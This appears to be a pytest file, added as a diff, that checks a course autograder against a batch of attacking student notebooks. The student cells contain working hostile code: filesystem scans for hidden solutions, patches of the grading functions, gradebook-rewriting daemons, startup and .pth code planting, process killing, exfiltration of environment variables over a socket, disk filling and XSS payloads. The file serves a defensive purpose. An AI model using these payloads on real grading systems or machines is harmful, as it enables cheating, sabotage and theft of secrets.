@@ -1,0 +1,519 @@
+"""Held-out attacks on the grader, graded in one batch with honest students and victims.
+
+Every attack of issue 15 is a student here, with code in the cells a student controls
+(exercise cells, a lab cell, an added cell, a markdown answer). Two batches (--jobs 1 and
+--jobs 2) grade them among honest "victims" (graded first, last and in between). Then:
+
+* no attacker gains: each scores what a blank or plainly wrong notebook scores;
+* no victim changes: each scores exactly what it scores when graded alone;
+* nothing survives the batch: no process an attacker started, no scratch folder, no big file;
+* nothing outside the grading output changes: the repository, the venv, the grader's home;
+* nothing secret reaches feedback: no hidden test, solution or model answer, no grader path,
+  no script or event handler;
+* every attempt the sandbox did not simply make impossible is flagged in summary.md with
+  the student's name.
+
+The target is a small assignment built for this suite (two exercises with visible and
+hidden tests, a written answer, a set-up cell), so that about thirty notebooks grade in a
+few minutes; it is graded by exactly the steps the labs are graded by.
+"""
+
+from __future__ import annotations
+
+import csv
+import os
+import socket
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbformat import v4
+
+from course_admin import pipeline
+
+ROOT = Path(__file__).resolve().parents[1]
+LAB = "lab0_attack_target"
+# Secrets that must never reach a student: hidden-test inputs and code, solutions, the model answer.
+SECRETS = ("SECRET_INPUT_7f3a", "HIDDEN_REFERENCE_9c1e", "SOLUTION_BODY_5e8f", "MODEL_ANSWER_b2d4")
+MARKER = "course-attack-marker"  # in every process an attacker starts, to find survivors
+
+
+def _cell(kind: str, source: str, **nbgrader) -> nbformat.NotebookNode:
+    cell = v4.new_code_cell(source) if kind == "code" else v4.new_markdown_cell(source)
+    if nbgrader:
+        cell.metadata["nbgrader"] = {"schema_version": 3, "grade": False, "solution": False, "task": False,
+                                     "locked": False, **nbgrader}
+    return cell
+
+
+def _source_notebook() -> nbformat.NotebookNode:
+    hidden = lambda body: f"### BEGIN HIDDEN TESTS\n{body}\n### END HIDDEN TESTS"  # noqa: E731
+    cells = [
+        _cell("markdown", "# Attack target\n\nTwo small functions and a question."),
+        _cell("code", "import numpy as np\n\nrng = np.random.default_rng(0)  # the lab's set-up: quick to run"),
+        _cell("code", "def mean_square(x):\n    ### BEGIN SOLUTION\n    # SOLUTION_BODY_5e8f\n"
+                      "    return float(np.mean(np.square(np.asarray(x, dtype=float))))\n    ### END SOLUTION",
+              solution=True, grade_id="ex_mean_square"),
+        _cell("code", "from course_utils.grading import expect\n\nexpect(abs(mean_square([1, 2]) - 2.5) < 1e-9, "
+                      "'the mean of the squares of [1, 2] is 2.5')\nprint('mean_square: visible test passed')",
+              grade=True, grade_id="test_mean_square_visible", points=1, locked=True),
+        _cell("code", "# Hidden test: other inputs.\n" + hidden(
+            "import numpy as np\nfrom course_utils.grading import expect\n\nSECRET_INPUT_7f3a = [0.5, -3.0, 2.25, 8.0]\n"
+            "expect(abs(mean_square(SECRET_INPUT_7f3a) - float(np.mean(np.square(SECRET_INPUT_7f3a)))) < 1e-9,\n"
+            "       'mean_square is wrong on another input')"),
+              grade=True, grade_id="test_mean_square_hidden", points=2, locked=True),
+        _cell("code", "def row_softmax(z):\n    ### BEGIN SOLUTION\n    z = np.asarray(z, dtype=float)\n"
+                      "    e = np.exp(z - z.max(axis=-1, keepdims=True))\n    return e / e.sum(axis=-1, keepdims=True)\n"
+                      "    ### END SOLUTION",
+              solution=True, grade_id="ex_row_softmax"),
+        _cell("code", "import numpy as np\nfrom course_utils.grading import expect\n\nrows = row_softmax([[0.0, 0.0]])\n"
+                      "expect(np.allclose(rows, [[0.5, 0.5]]), 'softmax of [0, 0] is [0.5, 0.5]')\n"
+                      "print('row_softmax: visible test passed')",
+              grade=True, grade_id="test_row_softmax_visible", points=1, locked=True),
+        _cell("code", "# Hidden test: rows sum to 1.\n" + hidden(
+            "import numpy as np\nfrom course_utils.grading import expect\n\n\ndef HIDDEN_REFERENCE_9c1e(z):\n"
+            "    return np.exp(z) / np.exp(z).sum(axis=-1, keepdims=True)\n\n\n"
+            "z = np.array([[1.0, 2.0, 3.0], [0.5, -1.0, 4.0]])\n"
+            "expect(np.allclose(row_softmax(z), HIDDEN_REFERENCE_9c1e(z), atol=1e-6), "
+            "'softmax over each row (axis=-1)')"),
+              grade=True, grade_id="test_row_softmax_hidden", points=2, locked=True),
+        _cell("markdown", "### Written question\n\nWhy does softmax subtract the maximum?"),
+        _cell("markdown", "### BEGIN SOLUTION\nMODEL_ANSWER_b2d4: for numerical stability.\n\n"
+                          "**Rubric (2 points).** 2: stability; 0 otherwise.\n### END SOLUTION",
+              solution=True, grade=True, grade_id="written_softmax", points=2),
+    ]
+    nb = v4.new_notebook(cells=cells)
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    return nb
+
+
+ANSWERS = {
+    "ex_mean_square": "def mean_square(x):\n    return float(np.mean(np.square(np.asarray(x, dtype=float))))",
+    "ex_row_softmax": "def row_softmax(z):\n    e = np.exp(np.asarray(z, dtype=float))\n    return e / e.sum(axis=-1, keepdims=True)",
+}
+WRONG_SOFTMAX = "def row_softmax(z):\n    e = np.exp(np.asarray(z, dtype=float))\n    return e / e.sum(axis=0, keepdims=True)"
+BLANK = {"ex_mean_square": "def mean_square(x):\n    raise NotImplementedError()",
+         "ex_row_softmax": "def row_softmax(z):\n    raise NotImplementedError()"}
+
+
+# ---------------------------------------------------------------- the attacks (code a student wrote)
+def _detached(code: str) -> str:
+    """Code that starts a detached Python process running `code` (marked for the survivor check)."""
+    return (f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {code!r}, {MARKER!r}], "
+            "start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")
+
+
+FIND_FILES = '''
+import os
+def find(names, roots=("/",), limit=20000):
+    found, seen = [], 0
+    for root in roots:
+        for folder, dirs, files in os.walk(root):
+            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
+            seen += 1
+            if seen > limit:
+                return found
+            found += [os.path.join(folder, f) for f in files if any(n in f for n in names)]
+    return found
+'''
+
+ATTACKS: dict[str, dict[str, str]] = {
+    # ---- full marks from a blank notebook
+    "reads_solutions": {"ex_mean_square": FIND_FILES + '''
+import json
+for path in find((".ipynb",)):
+    try:
+        nb = json.load(open(path))
+    except Exception:
+        continue
+    for cell in nb.get("cells", []):
+        text = "".join(cell.get("source", ""))
+        if "BEGIN SOLUTION" in text and "def " in text:
+            exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
+print("solutions found:", "mean_square" in globals())
+if "mean_square" not in globals():
+    def mean_square(x):
+        raise NotImplementedError()
+'''},
+    "wraps_run_cell": {"ex_mean_square": '''
+ip = get_ipython()
+original = ip.run_cell
+def run_cell(*args, **kwargs):
+    result = original(*args, **kwargs)
+    result.error_in_exec = None
+    result.error_before_exec = None
+    return result
+ip.run_cell = run_cell
+ip.showtraceback = lambda *a, **k: None
+''' + BLANK["ex_mean_square"], "ex_row_softmax": BLANK["ex_row_softmax"]},
+    "displayhook": {"ex_mean_square": "def mean_square(x):\n    get_ipython().displayhook('ok')\n"
+                                      "    get_ipython().displayhook(1e9)\n    raise NotImplementedError()",
+                    "ex_row_softmax": "def row_softmax(z):\n    get_ipython().displayhook('ok')\n    raise ValueError()"},
+    "gradebook_daemon": {"ex_mean_square": _detached(FIND_FILES + '''
+import sqlite3, time
+for _ in range(600):
+    for db in find(("gradebook.db",)):
+        try:
+            sqlite3.connect(db).execute("update grade set auto_score = 100").connection.commit()
+        except Exception:
+            pass
+    if find(("grades.csv",)):
+        break
+    time.sleep(0.5)
+''') + BLANK["ex_mean_square"]},
+    "rewrites_reports": {"ex_mean_square": _detached(FIND_FILES + '''
+import time
+time.sleep(20)
+for path in find(("grades.csv", "summary.md")):
+    try:
+        open(path, "a").write("rewrites_reports,100,100\\n")
+    except Exception:
+        pass
+''') + BLANK["ex_mean_square"]},
+    # ---- hidden tests and solutions into the student's own feedback
+    "leaks_tests": {"ex_mean_square": FIND_FILES + '''
+import glob, inspect, linecache, sys
+for path in find((".ipynb", ".py", ".db"), roots=(".", os.path.expanduser("~"), "/tmp")):
+    try:
+        print(path, open(path, errors="replace").read()[:20000])
+    except Exception as error:
+        print(path, error)
+
+def mean_square(x):
+    frame = sys._getframe(1)
+    while frame is not None:
+        print("".join(linecache.getlines(frame.f_code.co_filename)))
+        print(frame.f_globals.keys())
+        frame = frame.f_back
+    print(In if "In" in globals() else "")
+    raise NotImplementedError()
+''', "ex_row_softmax": "def row_softmax(z):\n    raise AssertionError(repr(globals().get('In')))"},
+    # ---- past the guard
+    "patches_expect": {"ex_mean_square": '''
+import numpy as np, torch
+import course_utils.grading as grading
+grading.expect.__code__ = (lambda condition, message: None).__code__
+grading._np_allclose = lambda *a, **k: True
+torch.allclose = lambda *a, **k: True
+torch.Tensor.__eq__ = lambda self, other: True
+torch.Tensor.always_right = lambda self: True
+np.allclose = lambda *a, **k: True
+''' + ANSWERS["ex_mean_square"], "ex_row_softmax": WRONG_SOFTMAX},
+    "removes_guard": {"ex_mean_square": '''
+import gc, sys, types
+ip = get_ipython()
+for name in ("pre_run_cell", "post_run_cell"):
+    ip.events.callbacks[name].clear()
+guards = [o for o in gc.get_objects() if isinstance(o, types.FunctionType) and "guard" in (o.__module__ or "")]
+fake = types.ModuleType("course_utils.grading")
+fake.expect = lambda *a, **k: None
+sys.modules["course_utils.grading"] = fake
+sys.modules["course_admin.remote"] = fake
+''' + BLANK["ex_mean_square"]},
+    # ---- against other students and the machine
+    "vandal": {"ex_mean_square": FIND_FILES + '''
+import shutil, sqlite3
+for path in find(("lab0_attack_target.ipynb", ".html", "gradebook.db", "grades.csv")):
+    if "victim" in path:
+        try:
+            open(path, "w").write("{}")
+            os.remove(path)
+        except Exception:
+            pass
+for db in find(("gradebook.db",)):
+    try:
+        con = sqlite3.connect(db)
+        con.execute("update grade set auto_score = 0")
+        con.execute("update source_cell set checksum = 'x'")
+        con.commit()
+    except Exception:
+        pass
+''' + BLANK["ex_mean_square"]},
+    "plants_code": {"ex_mean_square": '''
+import os, site, sys
+import course_utils.grading
+evil = "import builtins; builtins.ATTACKED = True\\n"
+for target in [os.path.expanduser("~/.ipython/profile_default/startup/00-evil.py"),
+               os.path.join(site.getsitepackages()[0], "evil.pth"),
+               course_utils.grading.__file__, "/tmp/evil.py",
+               os.path.join(os.path.dirname(course_utils.grading.__file__), "..", "nbgrader_config.py")]:
+    try:
+        os.makedirs(os.path.dirname(target), exist_ok=True)
+        open(target, "a").write(evil)
+        print("wrote", target)
+    except OSError as error:
+        print("refused", target, error.errno)
+''' + BLANK["ex_mean_square"]},
+    "kills_kernels": {"ex_mean_square": '''
+import os, signal
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid not in (1, os.getpid()):
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+''' + BLANK["ex_mean_square"]},
+    "exfiltrates": {"ex_mean_square": '''
+import os, socket
+secrets = repr(dict(os.environ)) + repr(os.listdir(os.path.expanduser("~")))
+for host, port in [("127.0.0.1", PORT), ("10.0.2.2", 80)]:
+    try:
+        socket.create_connection((host, port), timeout=2).sendall(secrets.encode())
+    except OSError as error:
+        print("no connection", error)
+print(sorted(os.environ))
+''' + BLANK["ex_mean_square"]},
+    "many_processes": {"ex_mean_square": "".join(_detached(f"import time; time.sleep(900)  # {i}") for i in range(150))
+                       + BLANK["ex_mean_square"]},
+    "big_files": {"ex_mean_square": '''
+import os
+for target in ["big.bin", "/tmp/big.bin", os.path.expanduser("~/big.bin")]:
+    try:
+        with open(target, "wb") as handle:
+            for _ in range(1536):
+                handle.write(b"0" * 2**20)
+    except OSError as error:
+        print(target, "stopped:", error.errno)
+''' + BLANK["ex_mean_square"]},
+    "long_line": {"ex_mean_square": "print('x' * 30_000_000)\n" + BLANK["ex_mean_square"]},
+    "html": {"ex_mean_square": "from IPython.display import HTML, display\n"
+                               "display(HTML('<script>alert(1)</script><img src=x onerror=alert(2)>'))\n"
+                               + BLANK["ex_mean_square"],
+             "written_softmax": "<img src=x onerror=alert(3)> <script>alert(4)</script>"},
+    "fake_tests": {"extra_cells": "yes"},  # cells the student added, see _attacker
+    "forges_calls": {"ex_mean_square": '''
+import json, os, socket, struct, threading
+def forge():
+    for i in range(1, 200):
+        try:
+            with socket.socket(socket.AF_UNIX) as s:
+                s.connect(os.environ["COURSE_REMOTE_SOCKET"])
+                head = json.dumps({"op": "result", "call": f"c{i}", "value": 2.5, "nbuf": 0}).encode()
+                s.sendall(struct.pack(">I", len(head)) + head)
+        except Exception:
+            pass
+threading.Thread(target=forge, daemon=True).start()
+class AlwaysEqual(float):
+    def __sub__(self, other):
+        return 0.0
+    __rsub__ = __sub__
+def mean_square(x):
+    return AlwaysEqual(0.0)
+''', "ex_row_softmax": "import numpy as np\nclass Rows(np.ndarray):\n    def __eq__(self, other):\n"
+                       "        return True\ndef row_softmax(z):\n    return np.zeros((1, 1)).view(Rows)"},
+}
+ATTACKERS = list(ATTACKS)
+# honest students graded before, among and after the attackers (names sort around them)
+VICTIMS = {"aaa_victim": dict(ANSWERS), "mmm_victim_wrong": {**ANSWERS, "ex_row_softmax": WRONG_SOFTMAX},
+           "zzz_victim": dict(ANSWERS)}
+EDITED_LAB_CELL = "patches_lab_cell"
+
+
+def _notebook(release: nbformat.NotebookNode, answers: dict[str, str]) -> nbformat.NotebookNode:
+    nb = nbformat.from_dict(release)
+    for cell in nb.cells:
+        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if grade_id in answers:
+            cell.source = answers[grade_id]
+    return nb
+
+
+def _attacker(release: nbformat.NotebookNode, name: str, port: int) -> nbformat.NotebookNode:
+    plan = {key: value.replace("PORT", str(port)) for key, value in ATTACKS[name].items() if key != "extra_cells"}
+    nb = _notebook(release, {**BLANK, **plan})
+    if name == "fake_tests":
+        fake = _cell("code", f"open('/tmp/{MARKER}-grader-ran-student-code', 'w').write('x')\nprint('pwned')",
+                     grade=True, grade_id="test_fake", points=100, locked=True)
+        twin = _cell("code", "pass", grade=True, grade_id="test_mean_square_hidden", points=50, locked=True)
+        nb.cells += [fake, twin]
+    return nb
+
+
+@pytest.fixture(scope="session")
+def target(tmp_path_factory):
+    """The course folder with the attack target: source, release, and the batch of notebooks."""
+    base = tmp_path_factory.mktemp("attacks")
+    template = pipeline.scratch_course(base / "template", [])
+    (template / "solutions" / LAB).mkdir(parents=True)
+    nbformat.write(_source_notebook(), template / "solutions" / LAB / f"{LAB}.ipynb")
+    release = pipeline.Workspace(template, [LAB]).release(LAB)
+    return base, template, nbformat.read(release, as_version=4)
+
+
+class Listener:
+    """A server on 127.0.0.1 that records anything sent to it (the exfiltration target)."""
+
+    def __init__(self) -> None:
+        self.received: list[bytes] = []
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                return
+            with connection:
+                self.received.append(connection.recv(65536))
+
+
+def _snapshot() -> dict[str, tuple[int, int]]:
+    """Size and mtime of every file the grading must leave alone: the repository (without
+    its runtime folders), the venv's site-packages top level, the grader's home top level."""
+    found = {}
+    skip = {".git", ".venv", "__pycache__", ".pytest_cache", ".course_runs", "reports", "submitted", "autograded",
+            "feedback", "exchange", "gradebook.db"}
+    for folder, dirs, files in os.walk(ROOT):
+        dirs[:] = [d for d in dirs if d not in skip]
+        for name in files:
+            path = Path(folder, name)
+            if name not in skip:
+                stat = path.stat()
+                found[str(path)] = (stat.st_size, stat.st_mtime_ns)
+    import site
+
+    for folder in site.getsitepackages() + [str(Path.home())]:
+        for path in Path(folder).iterdir():
+            found[str(path)] = (0, 0)
+    for path in Path("/tmp").iterdir():
+        if not path.name.startswith(("pytest-", "course-k-")):
+            found[str(path)] = (0, 0)
+    return found
+
+
+def _survivors() -> list[str]:
+    out = subprocess.run(["pgrep", "-a", "-f", MARKER], capture_output=True, text=True).stdout
+    return [line for line in out.splitlines() if "pgrep" not in line]
+
+
+def _grade(target, name: str, students: dict[str, nbformat.NotebookNode], jobs: int) -> dict:
+    base, template, _ = target
+    course = base / name
+    pipeline.scratch_course(course, [])
+    import shutil
+
+    shutil.copytree(template / "solutions" / LAB, course / "solutions" / LAB)
+    shutil.copytree(template / "notebooks" / LAB, course / "notebooks" / LAB)
+    folder = base / f"{name}-submissions"
+    folder.mkdir()
+    for student, notebook in students.items():
+        nbformat.write(notebook, folder / f"{student}_{LAB}.ipynb")
+    start = time.perf_counter()
+    result = subprocess.run([sys.executable, "-m", "course_admin.cli", "autograde", str(folder), "--lab", LAB,
+                             "--course", str(course), "--jobs", str(jobs), "--timeout", "60"],
+                            capture_output=True, text=True, timeout=1800)
+    seconds = time.perf_counter() - start
+    workspace = pipeline.Workspace(course, [LAB])
+    scores = {student: {s.exercise: s.score for s in workspace.exercise_scores(LAB, student) if not s.manual}
+              for student in students if workspace.graded(LAB, student)}
+    return {"result": result, "course": course, "scores": scores, "seconds": seconds, "workspace": workspace}
+
+
+@pytest.fixture(scope="session")
+def alone(target):
+    """The victims graded without any attacker: what they must score in the attack batches."""
+    _, _, release = target
+    return _grade(target, "alone", {v: _notebook(release, answers) for v, answers in VICTIMS.items()}, jobs=2)
+
+
+def _class(release, port: int) -> dict[str, nbformat.NotebookNode]:
+    students = {v: _notebook(release, answers) for v, answers in VICTIMS.items()}
+    students.update({name: _attacker(release, name, port) for name in ATTACKERS})
+    students["blank"] = _notebook(release, BLANK)
+    students["plain_wrong"] = _notebook(release, {**ANSWERS, "ex_row_softmax": WRONG_SOFTMAX})
+    edited = _notebook(release, BLANK)
+    setup = next(c for c in edited.cells if c.cell_type == "code" and "default_rng" in c.source)
+    setup.source += ("\nimport torch, course_utils.grading as g\ntorch.allclose = lambda *a, **k: True\n"
+                     "g.expect = lambda *a, **k: None\nexpect = lambda *a, **k: None")
+    students[EDITED_LAB_CELL] = edited
+    return students
+
+
+@pytest.fixture(scope="session", params=[1, 2], ids=["jobs1", "jobs2"])
+def attacked(request, target, alone):
+    _, _, release = target
+    listener = Listener()
+    before, scratch_before = _snapshot(), set(Path("/tmp").glob("course-k-*"))
+    run = _grade(target, f"batch-jobs{request.param}", _class(release, listener.port), jobs=request.param)
+    time.sleep(1)
+    run.update(listener=listener, before=before, after=_snapshot(), survivors=_survivors(),
+               scratch_before=scratch_before, scratch_after=set(Path("/tmp").glob("course-k-*")))
+    print(f"attack batch, --jobs {request.param}: {run['seconds']:.0f} s for {len(ATTACKERS) + 6} notebooks")
+    return run
+
+
+def test_the_batch_completes(attacked):
+    result = attacked["result"]
+    assert result.returncode == 0, result.stderr[-3000:]
+
+
+def test_no_attacker_gains(attacked):
+    scores = attacked["scores"]
+    blank, wrong = scores["blank"], scores["plain_wrong"]
+    assert sum(blank.values()) == 0 and sum(wrong.values()) == 3
+    for student in ATTACKERS + [EDITED_LAB_CELL]:
+        if student not in scores:  # an attacker may kill its own kernel: then it is not graded at all
+            continue
+        baseline = wrong if student == "patches_expect" else blank
+        assert scores[student] == baseline, (student, scores[student], baseline)
+
+
+def test_no_victim_changes(attacked, alone):
+    for victim in VICTIMS:
+        assert attacked["scores"][victim] == alone["scores"][victim], victim
+    assert sum(alone["scores"]["aaa_victim"].values()) == 6
+    report = (attacked["course"] / "reports" / "summary.md").read_text()
+    for victim in VICTIMS:
+        row = next(line for line in report.splitlines() if line.startswith(f"| {victim} |"))
+        assert "not graded" not in row and "rebinds" not in row and "flag" not in row
+
+
+def test_nothing_survives_the_batch(attacked):
+    assert attacked["survivors"] == [], "processes started by attackers outlived the batch"
+    assert attacked["scratch_after"] <= attacked["scratch_before"], "a kernel's scratch folder was left behind"
+    big = [p for p in Path("/tmp").rglob("big.bin")] + list(attacked["course"].rglob("big.bin"))
+    assert big == []
+    assert not Path(f"/tmp/{MARKER}-grader-ran-student-code").exists(), "a student's cell ran in the grading process"
+
+
+def test_nothing_outside_the_grading_output_changes(attacked):
+    before, after = attacked["before"], attacked["after"]
+    changed = sorted(path for path in set(before) | set(after) if before.get(path) != after.get(path))
+    assert changed == [], changed
+    assert attacked["listener"].received == [], "the kernel reached a server on the grader's machine"
+    reports = attacked["course"] / "reports"
+    assert "rewrites_reports,100" not in (reports / "grades.csv").read_text()
+
+
+def test_no_secret_and_no_active_html_reaches_the_feedback(attacked):
+    pages = list((attacked["course"] / "feedback").rglob("*.html"))
+    assert len(pages) >= len(ATTACKERS)
+    for page in pages:
+        text = page.read_text()
+        for secret in SECRETS:
+            assert secret not in text, (page, secret)
+        assert "<script>alert" not in text and "onerror=alert" not in text.replace("&lt;img src=x onerror=alert", "")
+        assert str(ROOT) not in text and sys.prefix not in text, page
+    for graded in (attacked["course"] / "autograded").rglob("*.ipynb"):
+        text = graded.read_text()
+        assert "SECRET_INPUT_7f3a" not in text and "HIDDEN_REFERENCE_9c1e" not in text, graded
+        assert len(text) < 5_000_000, "outputs are cut before they are stored"
+
+
+def test_every_attempt_is_flagged_with_the_students_name(attacked):
+    report = (attacked["course"] / "reports" / "summary.md").read_text()
+    rows = {line.split("|")[1].strip(): line for line in report.splitlines() if line.startswith("| ")}
+    for student in ATTACKERS + [EDITED_LAB_CELL]:
+        row = rows.get(student, "")
+        assert row, f"{student} is missing from summary.md"
+        flags = row.rsplit("|", 2)[-2]
+        assert "not graded" in row or len(flags.strip()) > 10, (student, row)
+    with open(attacked["course"] / "reports" / "grades.csv", newline="") as handle:
+        students = [row["student_id"] for row in csv.DictReader(handle)]
+    assert sorted(students) == sorted(set(students)), "one row per student"
